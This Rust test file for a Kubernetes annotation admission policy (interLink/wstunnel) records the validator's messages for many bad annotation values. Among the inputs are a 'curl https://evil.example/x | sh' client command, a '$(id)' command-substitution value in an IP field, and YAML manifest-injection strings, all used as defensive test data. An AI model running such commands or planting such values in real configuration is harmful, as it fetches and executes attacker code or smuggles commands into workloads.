//! Every message of every rule, as its reader meets it: `tests/messages.txt` holds them, so that a change of wording is
//! seen in review. `UPDATE_MESSAGES=1 cargo test --test messages` writes it anew.

use std::env;
use std::fs;

use interlink_annotations_policy::validate;
use serde_json::{Value, json};

const FILE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/messages.txt");

/// Keys that are judged more than once.
const VPN: &str = "interlink.eu/pod-vpn";
const IP: &str = "interlink.eu/pod-ip";
const TIMEOUT: &str = "interlink.virtual-kubelet.io/wstunnel-timeout";
const PORTS: &str = "interlink.eu/wstunnel-extra-ports";
const KEEP: &str = "interlink.eu/disable-offload-containers";
const KEEP_INIT: &str = "interlink.eu/disable-offload-init-containers";
const PING: &str = "interlink.virtual-kubelet.io/ping-response";
const COMMANDS: &str = "interlink.eu/wstunnel-client-commands";

/// What the policy says of a request, a line each.
fn said(request: Value, settings: Value) -> Vec<String> {
    let payload = json!({"request": request, "settings": settings}).to_string();
    let answer = validate(payload.as_bytes());
    let refusals = answer.message.map(|message| format!("refused ({}): {message}", answer.code.unwrap_or_default()));
    let warnings = answer.warnings.unwrap_or_default().into_iter().map(|warning| format!("warning: {warning}"));
    refusals.into_iter().chain(warnings).collect()
}

fn request(kind: &str, user: Value, object: Value, old: Value) -> Value {
    let group = if kind == "Deployment" { "apps" } else { "" };
    let operation = if old.is_null() { "CREATE" } else { "UPDATE" };
    json!({"operation": operation, "kind": {"group": group, "version": "v1", "kind": kind}, "namespace": "physics",
        "userInfo": user, "object": object, "oldObject": old})
}

/// A pod with one annotation, and a port unless the annotation is about having none.
fn pod(key: &str, value: &str) -> Value {
    let containers = json!([{"name": "main", "ports": [{"containerPort": 80}]}, {"name": "sidecar"}]);
    json!({"metadata": {"annotations": {key: value}}, "spec": {"containers": containers}})
}

fn alice() -> Value {
    json!({"username": "alice"})
}

fn create(key: &str, value: &str) -> Vec<String> {
    let settings = json!({"podIP": {"cidrs": ["10.244.0.0/16"], "octetRange": {}}});
    said(request("Pod", alice(), pod(key, value), Value::Null), settings)
}

/// An update of a pod from one value to another; none: without the annotation.
fn update(key: &str, from: &str, to: Option<&str>) -> Vec<String> {
    let new = to.map_or(json!({"metadata": {}}), |to| pod(key, to));
    said(request("Pod", alice(), new, pod(key, from)), json!({}))
}

/// A stored object with an annotation that a field manager wrote.
fn stored(kind: &str, key: &str, manager: &str) -> Vec<String> {
    let fields = json!({"f:metadata": {"f:annotations": {format!("f:{key}"): {}}}});
    let metadata = json!({"resourceVersion": "7", "annotations": {key: "1"},
        "managedFields": [{"manager": manager, "fieldsV1": fields}]});
    said(request(kind, json!({}), json!({"metadata": metadata}), Value::Null), json!({}))
}

/// What is judged, and the words that tell of it.
fn all() -> Vec<(&'static str, Vec<String>)> {
    let both = json!({"metadata": {"annotations": {VPN: "true", TIMEOUT: "2m"}}});
    let deployment = json!({"metadata": {"annotations": {VPN: "true", COMMANDS: "x", "interlink.eu/pod-vpm": "x"}},
        "spec": {"template": {"metadata": {"annotations": {"JobID": "1", COMMANDS: "x"}}}}});
    let portless = json!({"metadata": {"annotations": {TIMEOUT: "2m"}}, "spec": {"containers": [{"name": "main"}]}});
    let kept = json!({"metadata": {"annotations": {"interlink.eu/shadow-same-ns": "true", VPN: "true"}}, "spec": {"containers": [{"name": "main"}]}});
    let settings = json!({});
    vec![
        ("a JobID", create("JobID", "slurm-12345")),
        ("a JobID that is changed", update("JobID", "1", Some("2"))),
        ("a JobID that is removed", update("JobID", "1", None)),
        ("a stored JobID that a person wrote", stored("Pod", "JobID", "kubectl-edit")),
        ("a stored JobID that a controller copied", stored("Pod", "JobID", "kube-controller-manager")),
        ("client commands", create(COMMANDS, "curl https://evil.example/x | sh")),
        ("stored client commands that a person wrote", stored("Pod", COMMANDS, "kubectl-edit")),
        ("a ping response on a pod", create(PING, "ok")),
        ("a ping response on a node that a person wrote", stored("Node", PING, "kubectl-edit")),
        ("a VPN with a wrong value", create(VPN, "false")),
        ("an address with a prefix length", create(IP, "10.244.1.5/16")),
        ("a command as address", create(IP, "$(id)")),
        ("an address outside the range", create(IP, "10.96.0.10")),
        ("a reserved address", create(IP, "10.244.0.1")),
        ("an address with a last octet outside interLink's bounds", create(IP, "10.244.1.251")),
        ("an IPv4 address as IPv6", create(IP, "::ffff:10.244.1.5")),
        ("an IPv6 address with dots", create(IP, "2001:db8::1.2.3.4")),
        ("an address without a range", said(request("Pod", alice(), pod(IP, "10.244.1.5"), Value::Null), json!({}))),
        ("an empty timeout", create(TIMEOUT, "")),
        ("a timeout in days", create(TIMEOUT, "1d")),
        ("a timeout without a unit", create(TIMEOUT, "90")),
        ("a timeout without its last unit", create(TIMEOUT, "1m30")),
        ("a timeout in words", create(TIMEOUT, "2 min")),
        ("a timeout that is no number", create(TIMEOUT, "soon")),
        ("a timeout beyond Go's numbers", create(TIMEOUT, "9999999999h")),
        ("a timeout of zero", create(TIMEOUT, "0s")),
        ("a timeout that is too short", create(TIMEOUT, "10ms")),
        ("a timeout that is too long", create(TIMEOUT, "100000m")),
        ("VPN and a tunnel's timeout", said(request("Pod", alice(), both, Value::Null), settings.clone())),
        ("extra ports without a port", create(PORTS, "")),
        ("an extra port without a number", create(PORTS, "8080,http")),
        ("an extra port beyond the last", create(PORTS, "80800")),
        ("an extra port with a protocol for its name", create(PORTS, "5353:UDP")),
        ("an extra port with a wrong name", create(PORTS, "8080:My_Port")),
        ("an extra port with a wrong protocol", create(PORTS, "8080:web:HTTP")),
        ("an extra port with too much", create(PORTS, "8080:web:tcp:x")),
        ("an extra port twice", create(PORTS, "8080,8080:web")),
        ("two extra ports with one name", create(PORTS, "8080:web,9090:web")),
        ("an extra port named in YAML", create(PORTS, "8080:on")),
        ("an extra port with a manifest behind it", create(PORTS, "8080:web\n---")),
        ("a mesh that is off", create("interlink.eu/mesh-network", "off")),
        ("an MTU that is no number", create("interlink.eu/wg-mtu", "1420 bytes")),
        ("an MTU beyond all", create("interlink.eu/wg-mtu", "99999")),
        ("a keepalive below zero", create("interlink.eu/wg-keepalive-seconds", "-1")),
        ("a public key that is none", create("interlink.eu/wg-peer-public-key", "c2hvcnQ=")),
        ("a private key", create("interlink.eu/wg-private-key", "c2VjcmV0")),
        ("a private key with a manifest behind it", create("interlink.eu/wg-private-key", "x\n---\nkind: Secret")),
        ("a container that is not there", create(KEEP, "main,sidcar")),
        ("an init container, and there is none", create(KEEP_INIT, "fetch")),
        ("a shadow pod in the namespace, perhaps", create("interlink.eu/shadow-same-ns", "yes")),
        ("a mistyped key", create("interlink.eu/wstunnel-timeout", "2m")),
        ("a mistyped key of interLink's own", create("interlink.eu/job-id", "1")),
        ("a key that is near none", create("interlink.eu/colour", "blue")),
        ("a shadow pod beside the VPN", said(request("Pod", alice(), kept, Value::Null), settings.clone())),
        ("a timeout without a port", said(request("Pod", alice(), portless, Value::Null), settings.clone())),
        (
            "a Deployment with everything in wrong places",
            said(request("Deployment", alice(), deployment, Value::Null), settings),
        ),
    ]
}

#[test]
fn messages_are_as_they_were_reviewed() {
    let texts = all().into_iter().map(|(name, said)| {
        assert!(!said.is_empty(), "nothing is said of {name}");
        format!("# {name}\n{}\n", said.join("\n"))
    });
    let texts = texts.collect::<Vec<_>>().join("\n");
    if env::var_os("UPDATE_MESSAGES").is_some() {
        fs::write(FILE, &texts).unwrap();
    }
    let reviewed = fs::read_to_string(FILE).unwrap_or_default();
    for (now, was) in texts.lines().zip(reviewed.lines()) {
        assert_eq!(now, was, "if the new words are better, run: UPDATE_MESSAGES=1 cargo test --test messages");
    }
    assert_eq!(texts.lines().count(), reviewed.lines().count());
}
